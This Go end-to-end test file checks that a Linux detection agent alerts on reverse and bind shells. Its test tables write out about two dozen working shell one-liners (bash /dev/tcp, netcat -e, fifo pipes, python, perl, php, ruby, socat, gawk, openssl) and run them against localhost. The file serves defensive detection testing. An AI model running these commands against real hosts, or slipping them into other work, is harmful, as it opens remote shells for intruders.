// SPDX-License-Identifier: Apache-2.0

//go:build linux && amd64

package e2e

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/vedette-sec/vedette/internal/ring"
	"github.com/vedette-sec/vedette/test/internal/port"
)

// shellForm is a way to give a shell to the other end of a connection. In command, HOST, PORT and FIFO are
// replaced; FIFO is a name for a fifo that does not exist yet.
type shellForm struct {
	name    string
	needs   []string
	command string
	// title is the rule that is expected; "" is the reverse shell rule.
	title string
	// quiet is a form that starts nothing by itself: the alert has to come before it is told anything.
	quiet bool
}

var reverseShells = []shellForm{
	{name: "bash dev tcp", needs: []string{"bash"},
		command: `bash -c 'bash -i >& /dev/tcp/HOST/PORT 0>&1'`},
	{name: "bash dev tcp without exec", needs: []string{"bash"},
		command: `bash -c 'exec 5<>/dev/tcp/HOST/PORT; while read -r line <&5; do eval "$line; /bin/true" >&5 2>&5; done'`,
		title:   "Shell runs commands into a network connection"},
	{name: "nc.traditional", needs: []string{"nc.traditional"},
		command: `nc.traditional -e /bin/sh HOST PORT`},
	{name: "busybox nc", needs: []string{"busybox"},
		command: `busybox nc HOST PORT -e /bin/sh`},
	{name: "nc.openbsd fifo", needs: []string{"nc.openbsd", "mkfifo"},
		command: `mkfifo FIFO; cat FIFO | /bin/sh -i 2>&1 | nc.openbsd HOST PORT > FIFO`},
	{name: "nc.openbsd fifo without cat", needs: []string{"nc.openbsd", "mkfifo"},
		command: `mkfifo FIFO; /bin/sh -i < FIFO 2>&1 | nc.openbsd HOST PORT > FIFO`},
	{name: "busybox nc fifo", needs: []string{"busybox"},
		command: `busybox mkfifo FIFO; /bin/sh -i < FIFO 2>&1 | busybox nc HOST PORT > FIFO`},
	{name: "python3 dup2", needs: []string{"python3"},
		command: `python3 -c 'import socket,os,subprocess;s=socket.socket();s.connect(("HOST",PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`},
	{name: "python3 pty", needs: []string{"python3"},
		command: `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("HOST",PORT));[os.dup2(s.fileno(),n) for n in (0,1,2)];pty.spawn("/bin/sh")'`},
	{name: "perl", needs: []string{"perl"},
		command: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(PORT,inet_aton("HOST")));open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'`},
	{name: "socat exec", needs: []string{"socat"},
		command: `socat TCP:HOST:PORT EXEC:/bin/sh`},
	{name: "socat pty", needs: []string{"socat"},
		command: `socat EXEC:"/bin/sh -i",pty,stderr,setsid,sigint,sane TCP:HOST:PORT`},
	{name: "php", needs: []string{"php"},
		command: `php -r '$s=fsockopen("HOST",PORT);$d=[0=>$s,1=>$s,2=>$s];$p=proc_open("/bin/sh -i",$d,$q);proc_close($p);'`},
	{name: "ruby", needs: []string{"ruby"},
		command: `ruby -rsocket -e 'c=TCPSocket.new("HOST",PORT);[$stdin,$stdout,$stderr].each{|f|f.reopen(c)};exec "/bin/sh -i"'`},
	{name: "perl loop", needs: []string{"perl"}, quiet: true,
		command: `perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in(PORT,inet_aton("HOST")));open(STDIN,"<&S");open(STDOUT,">&S");open(STDERR,">&S");$|=1;while(<STDIN>){system("/bin/sh","-c",$_)}'`},
	{name: "ruby loop", needs: []string{"ruby"}, quiet: true,
		command: `ruby -rsocket -e 'c=TCPSocket.new("HOST",PORT);[$stdin,$stdout,$stderr].each{|f|f.reopen(c)};while l=$stdin.gets;system("/bin/sh","-c",l);end'`},
	{name: "ruby popen", needs: []string{"ruby"}, quiet: true,
		command: `ruby -rsocket -e 'c=TCPSocket.new("HOST",PORT);while l=c.gets;IO.popen(l,"r"){|io|c.print io.read};end'`,
		title:   "One-line script connects and runs what it reads"},
	{name: "python3 popen", needs: []string{"python3"}, quiet: true,
		command: `python3 -c 'import socket,os;s=socket.create_connection(("HOST",PORT));[s.send(os.popen(l).read().encode()) for l in s.makefile()]'`,
		title:   "One-line script connects and runs what it reads"},
	{name: "perl popen", needs: []string{"perl"}, quiet: true,
		command: "perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"HOST:PORT\");while(<$c>){print $c `$_`}'",
		title:   "One-line script connects and runs what it reads"},
	{name: "gawk", needs: []string{"gawk"},
		command: `gawk 'BEGIN{s="/inet/tcp/0/HOST/PORT";while((s|&getline c)>0){while((c|&getline l)>0)print l|&s;close(c)}}'`,
		title:   "Awk opens a network connection by itself"},
	{name: "openssl fifo", needs: []string{"openssl", "mkfifo"},
		command: `mkfifo FIFO; /bin/sh -i < FIFO 2>&1 | openssl s_client -quiet -connect HOST:PORT > FIFO 2>/dev/null`},
}

func TestReverseShells(t *testing.T) {
	ring.Require(t, ring.Native)
	a := startAgent(t)
	for _, form := range reverseShells {
		t.Run(form.name, func(t *testing.T) {
			need(t, form.needs...)
			a.t = t
			listener := listen(t, form.name)
			title := form.title
			if title == "" {
				title = "Reverse shell"
			}
			cmd := spawn(t, expand(t, form.command, listener.Addr().(*net.TCPAddr).Port))
			conn, err := listener.Accept()
			require.NoError(t, err)
			opened := time.Now()
			if !form.quiet {
				speak(t, conn)
			}
			before := a.wait(form.name, func(one alert) bool { return one.Rule.Name == title })
			found := before[len(before)-1]
			t.Logf("%s after the connection: %s", found.seen.Sub(opened).Round(time.Millisecond), found.Message)
			if form.quiet {
				speak(t, conn)
			}
			conn.Close()
			kill(cmd)
			all := append(before, a.settle()...)
			require.Len(t, all, 1, "exactly one alert: %v", all)

			assert.Equal(t, []string{"T1059"}, found.Threat.Technique.ID)
			assert.Equal(t, []string{"T1059.004"}, found.Threat.Technique.Subtechnique.ID)
			assert.Equal(t, "127.0.0.1", found.Destination.IP)
			assert.Equal(t, listener.Addr().(*net.TCPAddr).Port, found.Destination.Port)
			assertChain(t, found, cmd)
		})
	}
}

// assertChain wants every process from the shell's parent to the first one.
func assertChain(t *testing.T, found alert, cmd *exec.Cmd) {
	t.Helper()
	require.NotEmpty(t, found.Process.Ancestors)
	last := found.Process.Ancestors[len(found.Process.Ancestors)-1]
	assert.True(t, strings.HasSuffix(last, "[1]"), "the chain ends at init: %v", found.Process.Ancestors)
	self := fmt.Sprintf("[%d]", os.Getpid())
	assert.True(t, strings.Contains(strings.Join(found.Process.Ancestors, " "), self), "the chain passes this test: %v", found.Process.Ancestors)
}

var bindShells = []shellForm{
	{name: "nc.traditional", needs: []string{"nc.traditional"}, command: `nc.traditional -l -p PORT -e /bin/sh`},
	{name: "busybox nc", needs: []string{"busybox"}, command: `busybox nc -l -p PORT -e /bin/sh`},
	{name: "socat fork", needs: []string{"socat"}, command: `socat TCP-LISTEN:PORT,reuseaddr,fork EXEC:/bin/sh`},
	{name: "python3", needs: []string{"python3"},
		command: `python3 -c 'import socket,os,subprocess;s=socket.socket();s.setsockopt(1,2,1);s.bind(("HOST",PORT));s.listen(1);c,_=s.accept();[os.dup2(c.fileno(),n) for n in (0,1,2)];subprocess.call(["/bin/sh","-i"])'`},
}

func TestBindShells(t *testing.T) {
	ring.Require(t, ring.Native)
	a := startAgent(t)
	for _, form := range bindShells {
		t.Run(form.name, func(t *testing.T) {
			need(t, form.needs...)
			a.t = t
			port, err := port.Free()
			require.NoError(t, err)
			cmd := spawn(t, expand(t, form.command, port))
			var conn net.Conn
			require.Eventually(t, func() bool {
				var err error
				conn, err = net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
				return err == nil
			}, patience, 20*time.Millisecond)
			speak(t, conn)
			before := a.wait(form.name, func(one alert) bool { return one.Rule.Name == "Bind shell" })
			found := before[len(before)-1]
			conn.Close()
			kill(cmd)
			all := append(before, a.settle()...)
			require.Len(t, all, 1, "exactly one alert: %v", all)
			assert.Contains(t, found.Threat.Technique.Subtechnique.ID, "T1059.004")
			assert.Equal(t, port, found.Destination.Port)
			assert.Equal(t, "127.0.0.1", found.Source.IP)
			assertChain(t, found, cmd)
		})
	}
}

func expand(t *testing.T, command string, port int) string {
	t.Helper()
	return strings.NewReplacer("HOST", "127.0.0.1",
		"PORT", fmt.Sprint(port),
		"FIFO", t.TempDir()+"/fifo").Replace(command)
}

// spawn runs a shell command as a session of its own, so that all of it can be ended.
func spawn(t *testing.T, command string) *exec.Cmd {
	t.Helper()
	cmd := exec.Command("/bin/sh", "-c", command)
	cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
	require.NoError(t, cmd.Start())
	t.Cleanup(func() { kill(cmd) })
	return cmd
}

func kill(cmd *exec.Cmd) {
	if cmd.ProcessState == nil {
		_ = syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL)
		_ = cmd.Wait()
	}
}

// speak proves that a shell is at the other end.
func speak(t *testing.T, conn net.Conn) {
	t.Helper()
	require.NoError(t, conn.SetDeadline(time.Now().Add(patience)))
	_, err := conn.Write([]byte("echo answer-$((6*7))\n"))
	require.NoError(t, err)
	var got strings.Builder
	buffer := make([]byte, 4096)
	for !strings.Contains(got.String(), "answer-42") {
		n, err := conn.Read(buffer)
		require.NoError(t, err, "the shell said %q", got.String())
		got.Write(buffer[:n])
	}
}
